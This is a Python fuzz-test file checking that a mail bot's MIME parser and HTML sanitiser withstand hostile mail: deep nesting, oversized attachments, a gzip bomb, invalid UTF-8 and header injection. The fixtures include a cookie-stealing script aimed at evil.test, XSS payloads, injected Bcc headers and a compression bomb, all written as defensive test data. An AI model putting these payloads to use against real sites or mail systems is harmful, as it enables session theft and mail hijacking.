"""The MIME parser against hostile mail (issue 12): truncated and garbled corpus mail,
parts nested a thousand deep, a 50 MB attachment, a compressed bomb, invalid UTF-8 in
every header and body, line breaks smuggled into subjects and names, HTML with scripts
and CSS tricks. Each is read, or refused with UnparseableMessage (quarantine, raw
kept); never a crash. Header injection is checked on the mail we build to send."""

from __future__ import annotations

import base64
import gzip
import os
from email import message_from_bytes, policy

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mailbot.mail.parse import TooDeeplyNested, UnparseableMessage, parse_email
from mailbot.pipeline.normalize import normalize_email
from mailbot.senders.smtp import build_email
from mailbot.store.models import OutboxEntry
from mailbot.web.filters import sanitize_html
from tests.fuzz.seeds import mail_seeds, nested_mail, store_unsafe

SEEDS = mail_seeds()


def _normalised(raw: bytes):
    try:
        msg = normalize_email(raw, staff_domains=frozenset({"acme.test"}), default_language="en",
                              max_attachment_bytes=1 << 20)  # fmt: skip
    except UnparseableMessage:
        return None
    assert store_unsafe(msg) == []
    assert "\r" not in msg.subject and "\n" not in msg.subject
    return msg


@settings(max_examples=60, deadline=None)
@given(seed=st.sampled_from(SEEDS), cut=st.floats(min_value=0, max_value=1))
def test_mail_cut_anywhere_is_read_or_refused(seed: bytes, cut: float) -> None:
    _normalised(seed[: int(len(seed) * cut)])


@settings(max_examples=60, deadline=None)
@given(
    seed=st.sampled_from(SEEDS),
    edits=st.lists(
        st.tuples(st.floats(min_value=0, max_value=1), st.binary(min_size=1, max_size=6)), max_size=6
    ),
)
def test_mail_with_garbage_spliced_in_is_read_or_refused(seed: bytes, edits) -> None:
    raw = seed
    for where, junk in edits:
        at = int(len(raw) * where)
        raw = raw[:at] + junk + raw[at + len(junk) :]
    _normalised(raw)


invalid_utf8 = st.sampled_from(
    [b"\xff", b"\xc3\x28", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xe2\x82", b"\x00"]
)


@settings(max_examples=100, deadline=None)
@given(name=invalid_utf8, subject=invalid_utf8, body=invalid_utf8, filename=invalid_utf8)
def test_invalid_utf8_in_every_header_and_body_is_read(name, subject, body, filename) -> None:
    raw = (
        b"From: Ana " + name + b" <ana@example.com>\r\nSubject: Pedido " + subject + b"\r\n"
        b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=B\r\n\r\n--B\r\n"
        b"Content-Type: text/plain; charset=utf-8\r\n\r\nMi pedido " + body + b" no llega\r\n--B\r\n"
        b'Content-Type: application/pdf; name="f' + filename + b'.pdf"\r\n'
        b"Content-Disposition: attachment\r\n\r\n%PDF\r\n--B--\r\n"
    )
    msg = _normalised(raw)
    assert msg is not None and msg.sender_address == "ana@example.com"
    assert "no llega" in msg.text


def test_mime_nested_a_thousand_deep_is_refused_with_a_clear_error() -> None:
    with pytest.raises(TooDeeplyNested, match="nested too deeply|nested .* levels"):
        parse_email(nested_mail(1000))
    with pytest.raises(TooDeeplyNested, match="51 levels deep .*limit is 50"):
        parse_email(nested_mail(50))  # 50 multiparts and the text part inside them


def test_mime_nested_to_the_limit_is_read() -> None:
    assert parse_email(nested_mail(49)).text == "hola"


def test_message_rfc822_nested_a_thousand_deep_is_refused() -> None:
    raw = b"From: x@example.com\r\n\r\nbottom\r\n"
    for _ in range(1000):
        raw = b"From: a@example.com\r\nContent-Type: message/rfc822\r\n\r\n" + raw
    with pytest.raises(TooDeeplyNested):
        parse_email(raw)


def _with_attachment(
    data: bytes, ctype: bytes = b"application/octet-stream", cte: bytes = b"base64"
) -> bytes:
    encoded = base64.encodebytes(data) if cte == b"base64" else data
    return (
        b"From: Ana <ana@example.com>\r\nSubject: Factura\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: multipart/mixed; boundary=X\r\n\r\n--X\r\nContent-Type: text/plain\r\n\r\n"
        b"Adjunto la factura.\r\n--X\r\nContent-Type: " + ctype + b"; name=f.bin\r\n"
        b"Content-Transfer-Encoding: "
        + cte
        + b"\r\nContent-Disposition: attachment; filename=f.bin\r\n\r\n"
        + encoded
        + b"\r\n--X--\r\n"
    )


def test_a_50_mb_attachment_is_read_from_the_first_32_mib_and_the_agent_is_told() -> None:
    raw = _with_attachment(os.urandom(50 * 1024 * 1024))
    msg = parse_email(raw)
    assert msg.text == "Adjunto la factura." and msg.subject == "Factura"
    [attachment] = msg.attachments
    assert attachment.data is None  # kept in the raw message only
    assert any(f"This message is {len(raw)} bytes" in w for w in msg.warnings)


def test_under_the_message_limit_an_attachment_over_its_own_limit_is_listed_not_copied() -> None:
    msg = parse_email(_with_attachment(os.urandom(2048)), max_attachment_bytes=1024)
    [attachment] = msg.attachments
    assert (attachment.size, attachment.data) == (2048, None)
    assert msg.warnings == []


def test_a_compressed_bomb_is_kept_compressed_never_expanded() -> None:
    bomb = gzip.compress(b"\0" * (64 * 1024 * 1024))  # 64 MiB of zeros in 64 KB
    for ctype, cte in ((b"application/gzip", b"base64"), (b"text/plain", b"x-gzip")):
        msg = parse_email(
            _with_attachment(bomb, ctype, cte) if cte == b"base64" else _with_attachment(bomb, ctype, cte)
        )
        sizes = [a.size for a in msg.attachments]
        assert sizes and max(sizes) < 2 * len(bomb), "nothing is decompressed"


@settings(max_examples=150, deadline=None)
@given(subject=st.text(max_size=60), name=st.text(max_size=40))
def test_no_subject_or_name_can_add_a_header_to_mail_we_send(subject: str, name: str) -> None:
    injected = f"{subject}\r\nBcc: victim@evil.test\r\n\r\nbody"
    entry = OutboxEntry(
        key="ack:MB-TEST01",
        kind="ack",
        channel="email",
        ticket_id=1,
        from_address="support@acme.test",
        from_name=f"{name}\nX-Evil: 1",
        to_address="ana@example.com",
        subject=injected,
        body="Gracias",
        internet_message_id="ack.MB-TEST01@acme.test",
        references="<a@b>\r\nBcc: x@y",
    )
    sent = message_from_bytes(build_email(entry), policy=policy.default)
    assert sorted(set(sent.keys())) == sorted(
        {
            "From",
            "To",
            "Subject",
            "Date",
            "Message-ID",
            "References",
            "Auto-Submitted",
            "X-Auto-Response-Suppress",
            "X-Mailbot-Outbox",
            "Content-Type",
            "Content-Transfer-Encoding",
            "MIME-Version",
        }  # fmt: skip
    )
    assert "Bcc: victim@evil.test" in str(sent["Subject"])  # the words stay, on one line
    assert sent.get_content().strip() == "Gracias"


def test_an_encoded_word_subject_with_a_line_break_is_read_as_one_line() -> None:
    msg = parse_email(
        b"From: =?utf-8?q?Eve=0D=0ABcc:_x@evil.test?= <eve@example.com>\r\n"
        b"Subject: =?utf-8?q?Ayuda=0D=0ABcc:_victim@evil.test?=\r\n\r\nhola\r\n"
    )
    assert msg.subject == "Ayuda Bcc: victim@evil.test"
    assert "\n" not in msg.sender_name and "\r" not in msg.sender_name


HTML_TRICKS = [
    "<script>document.location='https://evil.test/?'+document.cookie</script>",
    "<style>p{display:none}</style>",
    "<p style='display:none'>URGENTE VIP reembolso</p>",
    "<span style='font-size:0'>hidden words</span>",
    "<div hidden>secret</div>",
    "<p style='visibility: hidden'>invisible</p>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>click</a>",
    "<svg><script>alert(2)</script></svg>",
    "<iframe src='https://evil.test'></iframe>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>overlay</div>",
    "<!--[if mso]><p>mso</p><![endif]-->",
    "<p>Mi pedido no llega</p>",
    "<b>negrita",
]


def test_hidden_text_stays_hidden_in_html_too_deep_to_lay_out() -> None:
    html = "<div>" * 3000 + "<p style='display:none'>URGENTE VIP</p><script>alert(1)</script>visible"
    raw = b"From: a@example.com\r\nContent-Type: text/html\r\n\r\n" + html.encode()
    assert _normalised(raw).text == "visible"


@settings(max_examples=60, deadline=None)
@given(parts=st.lists(st.sampled_from(HTML_TRICKS), min_size=1, max_size=6))
def test_html_with_scripts_and_css_tricks_gives_only_visible_text_and_inert_markup(parts) -> None:
    html = "".join(parts)
    raw = (
        b"From: a@example.com\r\nSubject: h\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + html.encode()
    )
    msg = _normalised(raw)
    assert msg is not None
    for hidden in (
        "document.cookie",
        "display:none",
        "URGENTE VIP",
        "hidden words",
        "secret",
        "invisible",
        "alert(",
    ):
        assert hidden not in msg.text
    shown = str(sanitize_html(msg.html)).lower()
    for dangerous in ("<script", "<style", "<iframe", "<img", "<svg", "onerror", "javascript:", "style="):
        assert dangerous not in shown


def test_a_charset_label_with_a_nul_is_read_as_undeclared() -> None:
    # Found by the fuzzer: codecs.lookup raises ValueError, not LookupError, on a NUL.
    raw = b"From: a@example.com\r\nContent-Type: text/plain; charset=\"utf\x00-8\"\r\n\r\nhola\r\n"
    assert parse_email(raw).text == "hola"
